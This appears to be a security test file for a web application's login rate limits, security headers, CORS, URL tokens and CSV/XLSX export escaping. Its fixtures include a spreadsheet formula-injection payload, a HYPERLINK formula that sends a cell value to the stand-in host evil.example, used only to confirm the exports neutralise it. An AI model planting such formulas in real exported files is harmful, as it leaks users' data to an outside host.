/**
 * Security (issue 14, part 3): login brute-force limits, the global request limit, security
 * headers with a CSP, CORS off by default, spreadsheet formula injection, tokens in the URL only
 * on downloads and tiles.
 */
import { beforeAll, describe, expect, it } from 'vitest';
import { hash } from '@node-rs/argon2';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { BACKENDS } from '../helpers/db.js';
import { useApp } from '../helpers/app.js';
import { insertProblemRows } from '../helpers/problems.js';
import { auth, MANAGER_BLOCK } from '../helpers/world.js';
import { cspDirectives } from '../../server/plugins/security.js';

const PASSWORD = 'correct horse battery';

describe.each(BACKENDS)('security on $name', (backend) => {
  describe('login limits', () => {
    const ctx = useApp(backend, {
      config: { loginLimitPerUser: 5, loginLimitPerAddress: 8, loginLimitWindowMs: 60_000 },
    });
    beforeAll(async () => {
      const password_hash = await hash(PASSWORD);
      await ctx.handle.db
        .insertInto('users')
        .values(
          ['zhang', 'li', 'zhao'].map((username) => ({
            username,
            display_name: username,
            role: 'leader' as const,
            scope: [],
            password_hash,
          })),
        )
        .execute();
    });
    const login = (username: string, password: string, remoteAddress: string) =>
      ctx.app.inject({
        method: 'POST',
        url: '/api/auth/login',
        payload: { username, password },
        remoteAddress,
      });

    it('after 5 wrong passwords for one user name, even the right one is refused with 429 RATE_LIMITED', async () => {
      for (let i = 0; i < 5; i++) expect((await login('zhang', `wrong-${i}`, `10.0.0.${i + 1}`)).statusCode).toBe(401);
      const res = await login('zhang', PASSWORD, '10.0.1.1');
      expect(res.statusCode).toBe(429);
      expect(res.json().error.code).toBe('RATE_LIMITED');
      expect(Number(res.headers['retry-after'])).toBeGreaterThan(0);
      // The user name is matched without regard to case.
      expect((await login('ZHANG', PASSWORD, '10.0.1.2')).statusCode).toBe(429);
      // Another user is not affected.
      expect((await login('li', PASSWORD, '10.0.1.3')).statusCode).toBe(200);
    });

    it('after 8 failures from one address (any user names), that address is refused; others are not', async () => {
      for (let i = 0; i < 8; i++) expect((await login(`nobody-${i}`, 'x', '10.9.9.9')).statusCode).toBe(401);
      expect((await login('zhao', PASSWORD, '10.9.9.9')).statusCode).toBe(429);
      expect((await login('zhao', PASSWORD, '10.9.9.10')).statusCode).toBe(200);
    });

    it('successful logins do not count against the limit', async () => {
      for (let i = 0; i < 10; i++) expect((await login('li', PASSWORD, '10.7.7.7')).statusCode).toBe(200);
    });
  });

  describe('global request limit', () => {
    const ctx = useApp(backend, { config: { rateLimitMax: 5, rateLimitWindowMs: 60_000 } });

    it('answers 429 RATE_LIMITED with Retry-After past RATE_LIMIT_MAX per address; health checks are exempt', async () => {
      const get = (remoteAddress: string) =>
        ctx.app.inject({ url: '/api/categories', headers: auth(ctx.world.tokens.leader), remoteAddress });
      for (let i = 0; i < 5; i++) expect((await get('10.1.1.1')).statusCode).toBe(200);
      const res = await get('10.1.1.1');
      expect(res.statusCode).toBe(429);
      expect(res.json().error.code).toBe('RATE_LIMITED');
      expect(Number(res.headers['retry-after'])).toBeGreaterThan(0);
      expect((await get('10.1.1.2')).statusCode).toBe(200);
      for (let i = 0; i < 10; i++)
        expect((await ctx.app.inject({ url: '/readyz', remoteAddress: '10.1.1.1' })).statusCode).toBe(200);
    });
  });

  describe('headers, CORS, tokens in the URL, exports', () => {
    const ctx = useApp(backend);
    beforeAll(async () => {
      await insertProblemRows(ctx.handle.db, [
        {
          block: MANAGER_BLOCK,
          status: 'filed',
          reported: '2026-03-02 09:00',
          description: '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
          address: '@SUM(1+1)',
        },
        { block: MANAGER_BLOCK, status: 'filed', reported: '2026-03-02 10:00', description: '-2+3', address: '\t=1+2' },
        {
          block: MANAGER_BLOCK,
          status: 'filed',
          reported: '2026-03-02 11:00',
          description: '普通描述 a=b',
          address: '+86 电话',
        },
      ]);
    });

    it('sends CSP, nosniff and frame denial on the page, the API and errors', async () => {
      for (const url of ['/healthz', '/api/categories', '/api/nope']) {
        const res = await ctx.app.inject({ url, headers: auth(ctx.world.tokens.leader) });
        const csp = String(res.headers['content-security-policy']);
        expect(csp, url).toContain("default-src 'self'");
        expect(csp).toContain("script-src 'self'");
        expect(csp).toContain("worker-src 'self' blob:");
        expect(csp).toContain("img-src 'self' data: blob:");
        expect(csp).toContain("frame-ancestors 'none'");
        expect(csp).not.toContain('upgrade-insecure-requests');
        expect(res.headers['x-content-type-options']).toBe('nosniff');
        expect(res.headers['x-frame-options']).toBe('DENY');
      }
    });

    it('the CSP admits the configured basemap origins and no others', () => {
      const d = cspDirectives({ tiandituKey: 'k', basemapUrl: 'https://tiles.example.org/{z}/{x}/{y}.png' });
      expect(d['connect-src']).toEqual(["'self'", 'https://*.tianditu.gov.cn', 'https://tiles.example.org']);
      expect(d['img-src']).toEqual([
        "'self'",
        'data:',
        'blob:',
        'https://*.tianditu.gov.cn',
        'https://tiles.example.org',
      ]);
      expect(cspDirectives({ tiandituKey: null, basemapUrl: null })['connect-src']).toEqual(["'self'"]);
    });

    it('CORS is off by default: no Access-Control-Allow-Origin for another site', async () => {
      const pre = await ctx.app.inject({
        method: 'OPTIONS',
        url: '/api/categories',
        headers: { origin: 'https://evil.example', 'access-control-request-method': 'GET' },
      });
      expect(pre.headers['access-control-allow-origin']).toBeUndefined();
      const res = await ctx.app.inject({
        url: '/api/categories',
        headers: { ...auth(ctx.world.tokens.leader), origin: 'https://evil.example' },
      });
      expect(res.headers['access-control-allow-origin']).toBeUndefined();
    });

    it('accepts ?access_token= on downloads and tiles only', async () => {
      const t = ctx.world.tokens.leader;
      const list = await ctx.app.inject({ url: `/api/problems?access_token=${t}` });
      expect(list.statusCode).toBe(401);
      expect(list.json().error.code).toBe('UNAUTHORIZED');
      const me = await ctx.app.inject({ url: `/api/auth/me?access_token=${t}` });
      expect(me.statusCode).toBe(401);
      const logout = await ctx.app.inject({ method: 'POST', url: `/api/auth/logout?access_token=${t}` });
      expect(logout.statusCode).toBe(401);
      expect((await ctx.app.inject({ url: `/api/exports/problems.csv?access_token=${t}` })).statusCode).toBe(200);
      expect([200, 204]).toContain(
        (await ctx.app.inject({ url: `/tiles/problems/14/13330/6850.mvt?access_token=${t}` })).statusCode,
      );
      // The token still works with the header.
      expect((await ctx.app.inject({ url: '/api/problems', headers: auth(t) })).statusCode).toBe(200);
    });

    it('CSV export: cells that would start a formula get a leading apostrophe; other text is untouched', async () => {
      const res = await ctx.app.inject({ url: '/api/exports/problems.csv', headers: auth(ctx.world.tokens.leader) });
      expect(res.statusCode).toBe(200);
      const rows = parse(res.body.replace(/^\uFEFF/, ''), { columns: true }) as Record<string, string>[];
      const byDescription = new Map(rows.map((r) => [r['描述'], r]));
      expect(byDescription.get(`'=HYPERLINK("http://evil.example/?x="&A1,"点我")`)?.['地址']).toBe("'@SUM(1+1)");
      expect(byDescription.get("'-2+3")?.['地址']).toBe("'\t=1+2");
      expect(byDescription.get('普通描述 a=b')?.['地址']).toBe("'+86 电话");
      expect(res.body).not.toMatch(/(^|,)"?=HYPERLINK/m);
    });

    it('XLSX export: the same cells are text with the apostrophe, never formulas', async () => {
      const res = await ctx.app.inject({ url: '/api/exports/problems.xlsx', headers: auth(ctx.world.tokens.leader) });
      expect(res.statusCode).toBe(200);
      const wb = new ExcelJS.Workbook();
      await wb.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
      const values: unknown[] = [];
      wb.worksheets[0].eachRow((row) => row.eachCell((c) => values.push(c.value)));
      expect(values).toContain(`'=HYPERLINK("http://evil.example/?x="&A1,"点我")`);
      expect(values).toContain("'-2+3");
      expect(values.some((v) => typeof v === 'object' && v !== null && 'formula' in v)).toBe(false);
    });
  });
});
